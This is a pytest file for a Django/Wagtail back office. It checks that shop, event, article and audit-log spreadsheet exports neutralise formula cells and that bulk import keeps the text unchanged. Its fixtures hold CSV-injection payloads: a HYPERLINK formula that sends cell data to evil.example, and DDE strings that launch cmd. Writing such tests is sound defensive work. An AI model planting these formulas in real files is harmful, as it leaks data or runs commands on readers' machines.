"""Issue 16, finding 3: no export of the back office writes a cell that a spreadsheet
program runs as a formula (OWASP CSV injection), and the bulk import gives back the
text exactly as it was exported (operations/spreadsheets.py)."""

import csv
import io

import pytest
from django.urls import URLPattern, URLResolver, get_resolver, reverse
from openpyxl import load_workbook
from wagtail.admin.views.mixins import SpreadsheetExportMixin

from directory.accounts import roles
from directory.shops.models import Shop
from operations.models import AuditEvent
from operations.services import audit_record
from operations.spreadsheets import csv_cell, csv_cell_unescape
from tests.factories import (
    ArticleFactory,
    EventFactory,
    ShopBenefitFactory,
    ShopFactory,
    UserFactory,
)

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"詳しくはこちら")'
DDE = "=cmd|' /C calc'!A0"
DANGEROUS = [HYPERLINK, DDE, "+81 6 1234 5678 のお店", "-割引のお店", "@SUM(1+1)*cmd|' /C calc'!A0",
             "'=引用符つき", "'そのまま"]


@pytest.fixture
def secretariat_client(client, masters):
    client.force_login(UserFactory(groups=[roles.SECRETARIAT]))
    return client


@pytest.fixture
def dangerous_shops(masters):
    shops = []
    for index, name in enumerate(DANGEROUS):
        shop = ShopFactory(name=name, comment=DDE if index == 0 else "",
                           opening_hours="-" if index == 1 else "10:00-18:00")
        ShopBenefitFactory(shop=shop, title=HYPERLINK if index == 0 else "5%引き")
        shops.append(shop)
    return shops


def _csv(response) -> list[list[str]]:
    content = (b"".join(response.streaming_content) if response.streaming
               else response.content)
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def _xlsx_cells(response):
    content = (b"".join(response.streaming_content) if response.streaming
               else response.content)
    sheet = load_workbook(io.BytesIO(content)).worksheets[0]
    return [cell for row in sheet.iter_rows() for cell in row]


def _assert_no_formula_cell_in_csv(rows):
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")) or \
                csv_cell(cell) == cell, f"formula-like CSV cell {cell!r}"


# --- the rule --------------------------------------------------------------------------


@pytest.mark.parametrize("value, written", [
    ("=1+1", "'=1+1"), ("+1", "+1"), ("+81 6", "'+81 6"), ("-", "'-"), ("-33.5", "-33.5"),
    ("@A1", "'@A1"), ("\tx", "'\tx"), ("\rx", "'\rx"), ("'x", "''x"), ("'=x", "''=x"),
    ("ふつう", "ふつう"), ("", ""), ("a=b", "a=b"),
])
def test_csv_cell_rule_and_its_inverse(value, written):
    assert csv_cell(value) == written
    assert csv_cell_unescape(written) == value
    assert csv_cell(5) == 5 and csv_cell(None) is None


def test_a_hand_typed_cell_keeps_its_text():
    assert csv_cell_unescape("=手入力") == "=手入力"
    assert csv_cell_unescape("'手入力") == "'手入力"
    assert csv_cell_unescape("'=手入力") == "=手入力"  # the spreadsheet convention


# --- the secretariat's bulk export and import -------------------------------------------


def test_bulk_csv_export_quotes_every_formula_like_cell(secretariat_client, dangerous_shops):
    response = secretariat_client.get(reverse("shops_bulk_export"), {"format": "csv"})
    rows = _csv(response)
    header = rows[0]
    names = [row[header.index("name")] for row in rows[1:]]
    assert names == ["'" + HYPERLINK, "'" + DDE, "'+81 6 1234 5678 のお店", "'-割引のお店",
                     "'@SUM(1+1)*cmd|' /C calc'!A0", "''=引用符つき", "''そのまま"]
    assert rows[1][header.index("comment")] == "'" + DDE
    assert rows[1][header.index("benefit_maido_title")] == "'" + HYPERLINK
    assert rows[2][header.index("opening_hours")] == "'-"
    _assert_no_formula_cell_in_csv(rows)


def test_bulk_xlsx_export_writes_text_cells_never_formulas(secretariat_client,
                                                           dangerous_shops):
    response = secretariat_client.get(reverse("shops_bulk_export"), {"format": "xlsx"})
    cells = _xlsx_cells(response)
    assert {cell.data_type for cell in cells if cell.value is not None} == {"s"}
    values = {cell.value for cell in cells}
    assert HYPERLINK in values and DDE in values and "'=引用符つき" in values


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_bulk_round_trip_of_formula_like_text_is_lossless(secretariat_client, dangerous_shops,
                                                          file_format):
    exported = secretariat_client.get(reverse("shops_bulk_export"), {"format": file_format})
    response = secretariat_client.post(reverse("shops_bulk_import"), {
        "file": _named(exported.content, f"shops.{file_format}")})
    assert response.status_code == 200
    preview = response.context["preview"]
    assert not preview.errors
    assert (preview.to_create, preview.to_update) == (0, 0)
    assert preview.unchanged == len(DANGEROUS)


def test_bulk_import_keeps_the_text_as_typed_and_exports_it_quoted(secretariat_client,
                                                                     dangerous_shops):
    exported = _csv(secretariat_client.get(reverse("shops_bulk_export"), {"format": "csv"}))
    header = exported[0]
    typed = list(exported[1])
    typed[header.index("id")] = ""
    typed[header.index("legacy_id")] = ""
    typed[header.index("name")] = "=手入力の式"  # typed without the quote
    changed = list(exported[2])
    changed[header.index("name")] = "'+手入力の店"  # typed with the quote
    buffer = io.StringIO()
    csv.writer(buffer).writerows([header, typed, changed])
    preview = secretariat_client.post(reverse("shops_bulk_import"), {
        "file": _named(buffer.getvalue().encode("utf-8"), "typed.csv")})
    assert preview.context["preview"].to_create == 1
    applied = secretariat_client.post(reverse("shops_bulk_import"), {
        "apply": "1", "token": preview.context["token"]})
    assert applied.status_code == 302
    assert Shop.objects.filter(name="=手入力の式").exists()
    assert Shop.objects.get(pk=dangerous_shops[1].pk).name == "+手入力の店"
    again = _csv(secretariat_client.get(reverse("shops_bulk_export"), {"format": "csv"}))
    assert {"'=手入力の式", "'+手入力の店"} <= {row[header.index("name")] for row in again}


def _named(content: bytes, name: str):
    upload = io.BytesIO(content)
    upload.name = name
    return upload


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_bulk_export_is_recorded_in_the_audit_log(secretariat_client, dangerous_shops,
                                                 osaka_city, file_format):
    response = secretariat_client.get(reverse("shops_bulk_export"),
                                      {"format": file_format, "municipality": osaka_city.pk})
    assert response.status_code == 200
    event = AuditEvent.objects.get(action=AuditEvent.Action.EXPORT)
    assert event.object_type == "shops.shop"
    assert event.user_label.startswith("user")
    assert event.detail["format"] == file_format
    assert event.detail["filters"] == {"municipality": str(osaka_city.pk)}
    assert event.detail["count"] == len(DANGEROUS)


def test_a_refused_bulk_export_is_not_recorded(client, dangerous_shops):
    client.force_login(UserFactory(groups=[roles.MUNICIPAL_STAFF]))
    assert client.get(reverse("shops_bulk_export"), {"format": "csv"}).status_code in (302, 403)
    assert not AuditEvent.objects.filter(action=AuditEvent.Action.EXPORT).exists()


# --- Wagtail's ?export=csv / xlsx of every listing ---------------------------------------


@pytest.fixture
def superuser_client(client, masters):
    client.force_login(UserFactory(is_superuser=True, is_staff=True))
    return client


@pytest.fixture
def dangerous_everything(dangerous_shops):
    EventFactory(title=HYPERLINK, venue=DDE)
    ArticleFactory(title=DDE, summary="@SUM(A1)")
    audit_record(action=AuditEvent.Action.DELETE, object_type="shops.shop", object_id=DDE,
                 detail={"note": HYPERLINK})


LISTINGS = ["/admin/snippets/shops/shop/", "/admin/snippets/events/event/",
            "/admin/snippets/faminavi/article/", "/admin/audit-log/"]


@pytest.mark.parametrize("path", LISTINGS)
def test_wagtail_csv_export_quotes_formula_like_cells(superuser_client, dangerous_everything,
                                                      path):
    response = superuser_client.get(path, {"export": "csv"})
    assert response.status_code == 200
    rows = _csv(response)
    cells = [cell for row in rows[1:] for cell in row]
    assert any(cell.startswith("'=") for cell in cells), cells
    for cell in cells:
        assert not cell.startswith(("=", "@", "\t", "\r")), cell
        assert not (cell.startswith(("+", "-")) and csv_cell(cell) != cell), cell


@pytest.mark.parametrize("path", LISTINGS)
def test_wagtail_xlsx_export_has_no_formula(superuser_client, dangerous_everything, path):
    response = superuser_client.get(path, {"export": "xlsx"})
    assert response.status_code == 200
    cells = _xlsx_cells(response)
    assert not [cell.value for cell in cells if cell.data_type == "f"]
    assert any(isinstance(cell.value, str) and cell.value.startswith("=") for cell in cells)


def _views(resolver=None, prefix=""):
    resolver = resolver or get_resolver()
    for pattern in resolver.url_patterns:
        if isinstance(pattern, URLResolver):
            yield from _views(pattern, prefix + str(pattern.pattern))
        elif isinstance(pattern, URLPattern):
            yield prefix + str(pattern.pattern), pattern.callback


def test_every_spreadsheet_export_view_uses_the_protected_writer():
    """Any view of the admin that can export (a new viewset, a report, a Wagtail upgrade)
    writes through the protected SpreadsheetExportMixin methods, not its own."""
    exporters = []
    for route, callback in _views():
        view_class = getattr(callback, "view_class", None)
        if view_class is None or not issubclass(view_class, SpreadsheetExportMixin):
            continue
        exporters.append(route)
        for name in ("preprocess_field_value", "generate_xlsx_row", "write_csv_row",
                     "stream_csv", "write_xlsx", "get_heading"):
            assert getattr(view_class, name) is getattr(SpreadsheetExportMixin, name), \
                f"{route}: {view_class.__name__}.{name} bypasses the formula protection"
    assert len(exporters) > 10
    assert getattr(SpreadsheetExportMixin, "_portal_formula_safe", False)
